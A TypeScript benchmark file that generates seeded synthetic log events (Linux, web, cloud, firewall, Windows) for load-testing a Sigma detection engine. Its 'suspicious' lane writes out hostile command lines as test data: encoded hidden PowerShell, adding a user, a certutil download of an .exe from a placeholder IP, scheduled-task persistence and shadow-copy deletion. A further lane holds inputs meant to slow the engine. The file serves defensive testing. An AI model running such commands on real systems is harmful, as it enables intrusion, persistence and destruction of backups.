// The lanes of bench/engine.ts: kinds of events as a province's systems send them, from a seed. Names are those that Sigma rules
// use; product, category and service are there for engines that route by them.
import { seeded, type Random } from './support-random.js';
import { blob, otherSysmon, processCreation, scriptBlock, security, time, type Fields } from './support-windows-events.js';

export interface Lane {
  readonly name: string;
  readonly event: (random: Random, n: number) => Fields;
  /** Whose different values are counted: how little remembering values would help. */
  readonly varied: string;
  /** Events for one that the others have: events here are long. */
  readonly share?: number;
}

/** One line of JSON an event. */
export function linesOf({ name, event }: Lane, count: number): string[] {
  const random = seeded(name);
  return Array.from({ length: count }, (_, n) => JSON.stringify(event(random, n)));
}

const auditd = (random: Random, n: number): Fields => ({
  '@timestamp': time(n), 'event.dataset': 'auditd.log', host: `srv-${random.int(40)}`, sequence: n,
  ...random.of([
    () => ({ type: 'EXECVE', argc: 3, a0: random.of(['ls', 'bash', 'curl', random.word()]), a1: `-${random.of(['l', 'c', 'x'])}`, a2: `/var/${random.word()}/${random.word()}` }),
    () => ({ type: 'SYSCALL', arch: 'c000003e', SYSCALL: random.of(['execve', 'openat', 'unlink']), success: 'yes', exit: 0, a0: random.hex(12), a1: random.hex(12), ppid: random.int(60_000), pid: random.int(60_000), uid: random.of(['root', 'www-data', random.word()]), tty: 'pts0', comm: random.word(), exe: `/usr/bin/${random.word()}`, key: random.of(['exec', 'perm', 'access']) }),
    () => ({ type: 'PATH', item: random.int(3), name: `/etc/${random.word()}/${random.word()}.conf`, inode: random.int(1e6), mode: '0100644', nametype: 'NORMAL' }),
  ])(),
  product: 'linux', service: 'auditd',
});

const auth = (random: Random, n: number): Fields => {
  const [program, message] = random.of<() => [string, string]>([
    () => ['sshd', `Failed password for invalid user ${random.word()} from 198.51.100.${random.int(250)} port ${random.int(60_000)} ssh2`],
    () => ['sshd', `Accepted publickey for ${random.word()} from 192.0.2.${random.int(250)} port ${random.int(60_000)} ssh2: ED25519 SHA256:${random.base64(43)}`],
    () => ['sshd', `Connection closed by 203.0.113.${random.int(250)} port ${random.int(60_000)} [preauth]`],
    () => ['sudo', `${random.word()} : TTY=pts/${random.int(9)} ; PWD=/home/${random.word()} ; USER=root ; COMMAND=/usr/bin/${random.word()} --${random.word()}`],
    () => ['pam', `pam_unix(sshd:session): session opened for user ${random.word()}(uid=${random.int(60_000)}) by (uid=0)`],
  ])();
  return { '@timestamp': time(n), 'event.dataset': `linux.${program}`, host: `srv-${random.int(40)}`, program, pid: random.int(60_000), message, product: 'linux', service: program };
};

const web = (random: Random, n: number): Fields => ({
  '@timestamp': time(n), 'cs-method': random.of(['GET', 'GET', 'GET', 'POST', 'HEAD']), 'cs-uri-stem': `/${random.word()}/${random.word()}.${random.of(['html', 'php', 'aspx', 'js', 'png'])}`, 'cs-uri-query': `trang=${random.int(99)}&tim=${random.word()}+${random.word()}&ma=${random.hex(12)}`,
  'sc-status': random.of([200, 200, 200, 304, 404, 500]), 'c-ip': `203.0.113.${random.int(250)}`, 'cs-host': 'dichvucong.xa.example', 'cs-referer': `https://dichvucong.xa.example/${random.word()}`, 'cs-user-agent': userAgent(random), 'sc-bytes': random.int(90_000), category: 'webserver',
});
const proxy = (random: Random, n: number): Fields => ({
  '@timestamp': time(n), 'cs-method': random.of(['GET', 'POST', 'CONNECT']), 'c-uri': `https://${random.word()}.example/${random.word()}/${random.word()}?${random.word()}=${random.hex(8)}`, 'r-dns': `${random.word()}.example`, 'c-ip': `192.0.2.${random.int(250)}`, 'c-useragent': userAgent(random), 'sc-status': random.of([200, 302, 407]), 'cs-bytes': random.int(90_000), category: 'proxy',
});
const userAgent = (random: Random): string => `Mozilla/5.0 (${random.of(['Windows NT 10.0; Win64; x64', 'X11; Linux x86_64', 'Linux; Android 15'])}) AppleWebKit/537.36 Chrome/${100 + random.int(45)}.0.${random.int(9999)}.${random.int(200)} Safari/537.36`;

const cloudtrail = (random: Random, n: number): Fields => ({
  eventVersion: '1.09', eventTime: time(n), eventSource: random.of(['s3.amazonaws.com', 'iam.amazonaws.com', 'ec2.amazonaws.com', 'sts.amazonaws.com', 'lambda.amazonaws.com']), eventName: random.of(['GetObject', 'AssumeRole', 'DescribeInstances', 'ListBuckets', 'PutObject', 'GetCallerIdentity', 'Invoke']),
  awsRegion: 'ap-southeast-1', sourceIPAddress: `198.51.100.${random.int(250)}`, userAgent: `aws-cli/2.${random.int(30)}.${random.int(9)} Python/3.12`, readOnly: true, eventID: `${random.hex(8)}-${random.hex(12)}`, eventType: 'AwsApiCall', managementEvent: true, recipientAccountId: '111122223333',
  userIdentity: { type: random.of(['IAMUser', 'AssumedRole']), principalId: `AIDA${random.hex(16)}`, arn: `arn:aws:iam::111122223333:user/${random.word()}`, accountId: '111122223333', userName: random.word(), sessionContext: { attributes: { creationDate: time(n), mfaAuthenticated: random.of(['true', 'false']) }, sessionIssuer: { type: 'Role', userName: random.word() } } },
  requestParameters: { bucketName: random.word(), key: `${random.word()}/${random.word()}.csv`, instancesSet: { items: [{ instanceId: `i-${random.hex(17)}` }, { instanceId: `i-${random.hex(17)}` }] } },
  responseElements: null, additionalEventData: { bytesTransferredOut: random.int(1e6), SignatureVersion: 'SigV4' }, resources: [{ type: 'AWS::S3::Object', ARN: `arn:aws:s3:::${random.word()}/${random.word()}` }, { type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${random.word()}` }],
  product: 'aws', service: 'cloudtrail',
});

const firewall = (random: Random, n: number): Fields => ({ '@timestamp': time(n), src_ip: `192.0.2.${random.int(250)}`, src_port: 1024 + random.int(60_000), dst_ip: `203.0.113.${random.int(250)}`, dst_port: random.of([22, 53, 80, 443, 3389]), action: random.of(['accept', 'deny']), protocol: 'tcp', interface: `port${random.int(9)}`, username: random.word(), category: 'firewall' });
const dns = (random: Random, n: number): Fields => ({ '@timestamp': time(n), query: `${random.word()}.${random.word()}.example`, record_type: random.of(['A', 'AAAA', 'TXT', 'MX']), answer: `203.0.113.${random.int(250)}`, src_ip: `192.0.2.${random.int(250)}`, category: 'dns' });

/** Each meets some rule. */
const suspicious = (random: Random, n: number): Fields => processCreation(random, n, random.of([
  () => `powershell.exe -NoP -w hidden -EncodedCommand ${random.base64(40)}`, () => `cmd.exe /c whoami /all & net user ${random.word()} /add`, () => `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication" ${random.word()}`,
  () => `certutil.exe -urlcache -split -f http://198.51.100.${random.int(250)}/${random.word()}.exe`, () => `schtasks /create /tn ${random.word()} /tr C:\\Users\\Public\\${random.word()}.exe /sc minute`, () => `vssadmin delete shadows /all /quiet ${random.word()}`,
])());

/** By thousands of a day. */
const DAY: readonly (readonly [upTo: number, event: Lane['event']])[] = [[250, processCreation], [350, otherSysmon], [450, security], [550, web], [650, proxy], [725, auth], [800, auditd], [850, firewall], [900, dns], [999, cloudtrail], [1000, suspicious]];
function day(random: Random, n: number): Fields {
  const at = random.int(1000);
  return (DAY.find(([upTo]) => at < upTo) as (typeof DAY)[number])[1](random, n);
}

/** What an attacker might send to make the engine slow. */
const adversarial = (random: Random, n: number): Fields => {
  const line = (text: string): Fields => processCreation(random, n, text);
  switch (n % 6) {
    case 0: return line(`powershell -e ${random.base64(4000)}`);
    case 1: return line('powershel powershell.ex -encodedcomman '.repeat(60) + random.word());
    case 2: return line(`${'ỗÉĐ\u212a\u0130'.repeat(200)} cmd.exe /c ${random.word()}`);
    case 3: return line(`${' -'.repeat(1500)}${random.word()}`);
    case 4: return line(`http://${'a'.repeat(3000)}.${random.word()}`);
    default: return scriptBlock(random, n, 65_536);
  }
};

export const LANES: readonly Lane[] = [
  { name: 'W1 sysmon process', event: (random, n) => processCreation(random, n), varied: 'CommandLine' },
  { name: 'W2 windows security', event: security, varied: 'SubjectUserName' },
  { name: 'W3 windows as one text', event: blob, varied: 'message' },
  { name: 'W4 auditd', event: auditd, varied: 'a2' },
  { name: 'W5 sshd, sudo, pam', event: auth, varied: 'message' },
  { name: 'W6 web access', event: web, varied: 'cs-uri-query' },
  { name: 'W7 cloudtrail', event: cloudtrail, varied: 'eventID' },
  { name: 'W8 mixed day', event: day, varied: '@timestamp' },
  { name: 'W9 match-heavy', event: suspicious, varied: 'CommandLine' },
  { name: 'W10 adversarial', event: adversarial, varied: 'EventRecordID', share: 0.1 },
];
